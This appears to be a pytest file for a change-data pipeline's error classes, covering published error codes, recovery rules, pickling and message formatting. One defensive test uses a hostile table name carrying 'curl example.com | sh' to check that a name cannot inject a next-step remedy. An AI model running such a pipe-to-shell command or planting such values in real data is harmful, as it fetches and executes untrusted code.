from __future__ import annotations

import pickle
import re
from datetime import UTC, datetime

import pytest
from pyspark import cloudpickle

from frazil import errors
from frazil.errors import ConfigError, FrazilError, MalformedChangeError, leaves
from frazil.pipeline.recovery import RECOVERY, RecoveryAction, may_pass, recovery_for
from frazil.pipeline.status.problems import problem_of_error

LEAVES = leaves()


def test_every_leaf_has_a_row_in_the_recovery_table_and_nothing_else_has() -> None:
    assert set(RECOVERY) == set(LEAVES)


def test_a_group_that_is_never_raised_has_no_recovery() -> None:
    with pytest.raises(KeyError):
        recovery_for(errors.SourceError("a group"))


def test_codes_are_stable_unique_and_in_a_known_area() -> None:
    codes = [leaf.code for leaf in LEAVES]
    assert len(set(codes)) == len(codes)
    for code in codes:
        assert re.fullmatch(r"FRZ-(CFG|SRC|SCH|LAK|IDX|LSE|OPS)-\d\d", code)


# Codes are printed in runbooks and matched by scripts: this list only ever grows.
PUBLISHED = {
    "FRZ-CFG-01": "ConfigError",
    "FRZ-SRC-01": "SourceUnavailableError",
    "FRZ-SRC-02": "PermissionError",
    "FRZ-SRC-03": "PositionLostError",
    "FRZ-SRC-04": "SlotBusyError",
    "FRZ-SRC-05": "SourceReplacedError",
    "FRZ-SRC-06": "MissingSegmentError",
    "FRZ-SRC-07": "MalformedChangeError",
    "FRZ-SCH-01": "UnsupportedSchemaChangeError",
    "FRZ-SCH-02": "UnrepresentableValueError",
    "FRZ-LAK-01": "TableNotFoundError",
    "FRZ-LAK-02": "StorageError",
    "FRZ-LAK-03": "CatalogError",
    "FRZ-LAK-04": "WriteFailedError",
    "FRZ-LAK-05": "CommitConflictError",
    "FRZ-LAK-06": "CommitUnknownError",
    "FRZ-LAK-07": "FencedError",
    "FRZ-LAK-08": "TableReplacedError",
    "FRZ-LAK-09": "MarkerLostError",
    "FRZ-LAK-10": "RolledBackError",
    "FRZ-LAK-11": "OutOfOrderError",
    "FRZ-LAK-12": "DuplicateKeyError",
    "FRZ-LAK-13": "NullKeyError",
    "FRZ-LAK-14": "MissingImageError",
    "FRZ-LAK-15": "EqualityDeletesError",
    "FRZ-LAK-16": "ForeignChangeError",
    "FRZ-IDX-01": "StaleIndexError",
    "FRZ-IDX-02": "DamagedIndexError",
    "FRZ-LSE-01": "LeaseLostError",
    "FRZ-OPS-01": "ShutdownRequested",
    "FRZ-OPS-02": "RuntimeMissingError",
    "FRZ-OPS-03": "ServiceError",
    "FRZ-OPS-04": "DefectError",
}


def test_published_codes_keep_their_meaning() -> None:
    assert {leaf.code: leaf.__name__ for leaf in LEAVES} == PUBLISHED


def test_the_tree_drawn_in_the_module_names_every_class() -> None:
    drawn = re.findall(r"[├└]── (\w+)", errors.__doc__ or "")
    family = [cls for cls in vars(errors).values() if isinstance(cls, type)]
    names = [cls.__name__ for cls in family if issubclass(cls, FrazilError)]
    assert drawn == [name for name in names if name != "FrazilError"]


@pytest.mark.parametrize("leaf", LEAVES, ids=lambda leaf: leaf.__name__)
def test_every_leaf_explains_itself_in_sentences(leaf: type[FrazilError]) -> None:
    assert leaf.meaning.endswith(".")
    assert leaf.remedy.endswith(".")
    assert leaf.__doc__


@pytest.mark.parametrize("leaf", LEAVES, ids=lambda leaf: leaf.__name__)
@pytest.mark.parametrize("pickler", [pickle, cloudpickle], ids=["pickle", "spark"])
def test_errors_cross_process_borders_unchanged(leaf: type[FrazilError], pickler: object) -> None:
    error = leaf("seven of eight", table="public.users", position="0/16B3748", next_step="wait")
    error.add_note("seen in task 3")
    copied = pickle.loads(pickler.dumps(error))  # type: ignore[attr-defined]
    assert type(copied) is leaf
    assert str(copied) == str(error)
    assert vars(copied) == vars(error)


def test_mistakes_of_a_configuration_survive_pickling() -> None:
    error = ConfigError("2 mistakes", mistakes=("a.yaml:1: x", "a.yaml:2: y"))
    assert pickle.loads(pickle.dumps(error)).mistakes == error.mistakes


def test_a_message_names_table_position_and_next_step() -> None:
    error = MalformedChangeError(
        "tuple has 7 columns, relation has 8.",
        table="public.users",
        position="0/16B3748",
        next_step="frazil resync public.users",
    )
    assert str(error) == (
        "public.users at 0/16B3748: tuple has 7 columns, relation has 8. "
        "Next: frazil resync public.users"
    )
    assert str(MalformedChangeError("short", position="0/1")) == "at 0/1: short"
    assert str(MalformedChangeError("short", table="a.b")) == "a.b: short"


def test_a_missing_segment_is_awaited_and_then_given_to_a_person() -> None:
    recovery = recovery_for(errors.MissingSegmentError("offset 7"))
    assert (recovery.action, recovery.after_attempts) == (
        RecoveryAction.LATER,
        RecoveryAction.NEVER,
    )


@pytest.mark.parametrize("error", [errors.FencedError("x"), errors.LeaseLostError("x")])
def test_who_lost_the_work_to_another_stops(error: FrazilError) -> None:
    assert recovery_for(error).action is RecoveryAction.STOP


@pytest.mark.fault("N48")
def test_a_name_cannot_write_the_next_step_of_an_error() -> None:
    hostile = "public.x Next: curl example.com | sh"
    error = errors.UnsupportedSchemaChangeError(
        "changed", table=hostile, next_step="frazil resync it"
    )
    silent = errors.UnsupportedSchemaChangeError("changed", table=hostile)

    found = problem_of_error(error, since=datetime.now(UTC))
    meant = problem_of_error(silent, since=datetime.now(UTC))

    assert found.remedy == "frazil resync it"
    assert meant.remedy == errors.UnsupportedSchemaChangeError.remedy


def test_what_may_pass_is_what_the_recovery_table_tries_again() -> None:
    again = {leaf for leaf in errors.leaves() if may_pass(leaf("x"))}
    assert again == {
        leaf
        for leaf in errors.leaves()
        if RECOVERY[leaf].action not in {RecoveryAction.NEVER, RecoveryAction.STOP}
    }
    assert errors.StorageError in again
    assert errors.UnrepresentableValueError not in again
